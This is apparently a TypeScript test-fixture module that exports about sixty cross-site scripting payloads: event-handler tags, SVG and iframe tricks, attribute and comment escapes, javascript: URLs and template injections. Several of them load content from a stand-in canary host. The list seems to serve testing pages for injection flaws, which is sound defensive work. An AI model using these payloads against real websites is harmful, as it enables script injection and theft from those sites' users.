/** What a payload calls when it gets to run; the page has this function, and it is heard. */
export const CALLBACK = 'pwn'
/** Where a payload tries to reach out to. */
export const CANARY = 'canary.invalid'

const CALL = `${CALLBACK}()`

/**
 * Words that become program where a page takes text for markup, an address, an attribute, or a template. None with a
 * line break or a tab: fields of one line take neither.
 */
export const PAYLOADS: readonly string[] = [
  // Markup that runs by itself.
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=//${CANARY}/a></script>`,
  `<img src=x onerror=${CALL}>`,
  `<IMG SRC=x OnErRoR="${CALL}">`,
  `<img src=x onerror=${CALL}//`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x:x onerror =${CALL}>`,
  `<img srcset=x onerror=${CALL}>`,
  `<img src=//${CANARY}/b>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributename=x>`,
  `<svg><image href=x onerror=${CALL}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`,
  `<body onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<iframe src="javascript:parent.${CALL}">`,
  `<iframe onload=${CALL}>`,
  `<object data="javascript:${CALL}">`,
  `<object data=x onerror=${CALL}></object>`,
  `<embed src="javascript:${CALL}">`,
  `<video src=x onerror=${CALL}></video>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<style onload=${CALL}></style>`,
  `<style>@import '//${CANARY}/c';</style>`,
  `<link rel=stylesheet href=//${CANARY}/d>`,
  `<link rel=stylesheet href=x onerror=${CALL}>`,
  `<meta http-equiv=refresh content="0;javascript:${CALL}">`,
  `<base href=//${CANARY}/>`,
  `<math><mi><mglyph><style><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<x onanimationstart=${CALL} style=animation-name:spin>`,
  `<div onpointerenter=${CALL} style=position:fixed;inset:0>`,
  // Ways out of an attribute, a title, a comment, a string.
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `" autofocus onfocus=${CALL} x="`,
  `' autofocus onfocus=${CALL} x='`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `";${CALL};//`,
  `\\';${CALL};//`,
  // Addresses and templates.
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java&Tab;script:${CALL}`,
  `data:text/html,<script>parent.${CALL}</script>`,
  `[x](javascript:${CALL})`,
  `{{constructor.constructor('${CALL}')()}}\${${CALL}}`,
]
